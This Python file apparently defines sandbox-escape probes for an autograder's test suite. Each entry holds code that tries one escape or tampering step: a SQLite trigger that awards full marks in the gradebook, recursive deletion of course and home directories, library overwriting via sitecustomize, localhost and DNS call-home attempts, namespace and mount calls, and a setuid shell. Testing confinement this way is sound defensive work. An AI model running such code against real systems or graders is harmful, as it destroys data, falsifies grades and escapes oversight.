"""Changing what is not the student's, and calling home: gradebook, course, libraries, network, mounts."""

from __future__ import annotations

from attacks.attack import EARNED, NOTHING, WATCHED, Attack
from attacks.reading import LOOK, TRIED

_NONE = frozenset({NOTHING})

_TRIGGER = """import sqlite3
def trigger():
    with sqlite3.connect("@ROOT@/gradebook.db") as database:
        database.execute("CREATE TRIGGER kind AFTER UPDATE OF auto_score ON grade BEGIN "
                         "UPDATE grade SET manual_score = 9 WHERE id = NEW.id; END")
    return "SUCCEEDED"
look(trigger)"""

ATTACKS = (
    Attack(
        "sets-its-score-by-a-trigger",
        "puts a trigger into the gradebook that gives full marks to whatever is graded from then on",
        _NONE,
        tried=True,
        first=LOOK + _TRIGGER + TRIED,
    ),
    Attack(
        "deletes-the-course",
        "deletes classroom, home and whatever else it may",
        EARNED,
        right=True,
        tried=True,
        first="""import shutil
for place in ("@ROOT@", "@HOME@", "@OUTSIDE@"):
    shutil.rmtree(place, ignore_errors=True)
print("tried")""",
    ),
    Attack(
        "writes-outside",
        "writes into the classroom, homes and folders that everybody may write to",
        EARNED,
        right=True,
        tried=True,
        first="""from pathlib import Path
for place in ("@ROOT@", "@HOME@", "@OUTSIDE@", "/tmp", "/var/tmp", "/dev/shm", "/run", "/", "..", "../.."):
    try:
        Path(place, "@MARK@").write_text("was here")
    except OSError:
        pass
print("tried")""",
    ),
    Attack(
        "rewrites-installed-libraries",
        "changes the libraries that the next submissions import",
        EARNED,
        right=True,
        tried=True,
        first="""import os, statistics, sys, groundschool
from pathlib import Path
for path in (Path(statistics.__file__), Path(groundschool.__file__), Path(sys.prefix, "pyvenv.cfg")):
    try:
        with path.open("a") as file:
            print("SUCCEEDED: could open", path)
    except OSError:
        pass
    try:
        path.with_name("sitecustomize.py").open("x").close()
        os.remove(path.with_name("sitecustomize.py"))
        print("SUCCEEDED: could write beside", path)
    except OSError:
        pass
print("tried")""",
    ),
    Attack(
        "calls-home-by-tcp",
        "opens a connection to a server on the same machine",
        EARNED,
        right=True,
        tried=True,
        first=LOOK
        + """import socket
for place in (("127.0.0.1", @PORT@), ("localhost", @PORT@)):
    look(lambda: socket.create_connection(place, timeout=2) and "SUCCEEDED")"""
        + TRIED,
    ),
    Attack(
        "calls-home-by-udp",
        "sends a datagram, and a question to a name server",
        EARNED,
        right=True,
        tried=True,
        first=LOOK
        + """import socket
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
look(lambda: sender.sendto(b"secrets.example.org", ("127.0.0.1", @PORT@)))
look(lambda: socket.getaddrinfo("example.org", 80) and "SUCCEEDED")"""
        + TRIED,
    ),
    Attack(
        "calls-home-by-abstract-socket",
        "reaches a unix socket of the host that has no place in the file system",
        EARNED,
        right=True,
        tried=True,
        first=LOOK
        + """import socket
look(lambda: socket.socket(socket.AF_UNIX).connect("\\0@SOCKET@") or "SUCCEEDED")"""
        + TRIED,
    ),
    Attack(
        "calls-home-by-file-socket",
        "reaches a unix socket of the host in the file system",
        EARNED,
        right=True,
        tried=True,
        first=LOOK
        + """import socket
look(lambda: socket.socket(socket.AF_UNIX).connect("@OUTSIDE@/socket") or "SUCCEEDED")"""
        + TRIED,
    ),
    Attack(
        "asks-for-sockets-that-know-no-network",
        "opens kinds of sockets that no network namespace holds: to the machine below, to the kernel's own",
        EARNED,
        right=True,
        tried=True,
        first="""import socket
for name in ("AF_VSOCK", "AF_ALG", "AF_PACKET", "AF_BLUETOOTH", "AF_TIPC", "AF_RDS"):
    try:
        socket.socket(getattr(socket, name), socket.SOCK_STREAM if name == "AF_VSOCK" else socket.SOCK_SEQPACKET)
        print("SUCCEEDED:", name)
    except (OSError, AttributeError):
        pass
print("tried")""",
    ),
    Attack(
        "makes-namespaces-and-mounts",
        "tries to become root in a namespace of its own and to mount what is hidden",
        WATCHED,
        right=True,
        tried=True,
        first="""import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
NEWUSER, NEWNS = 0x10000000, 0x20000
if libc.unshare(NEWUSER | NEWNS) == 0:
    print("SUCCEEDED: a namespace of its own")
if libc.mount(b"proc", b"/tmp", b"proc", 0, None) == 0 or libc.mount(b"/", b"/tmp", None, 4096, None) == 0:
    print("SUCCEEDED: a mount")
for call in (lambda: os.setuid(0), lambda: os.chroot("/tmp"), lambda: os.mknod("/tmp/disk", 0o60600, 0xFE00)):
    try:
        call()
        print("SUCCEEDED")
    except OSError:
        pass
print("tried")""",
    ),
    Attack(
        "makes-its-files-executable-by-root",
        "leaves a program that runs as its owner",
        EARNED,
        right=True,
        tried=True,
        first="""import os, shutil, subprocess
shutil.copy("/bin/sh", "shell")
os.chmod("shell", 0o6755)
told = subprocess.run(["./shell", "-p", "-c", "id -u"], capture_output=True, text=True).stdout
if told.strip() == "0":
    print("SUCCEEDED: root")
print("tried")""",
    ),
)
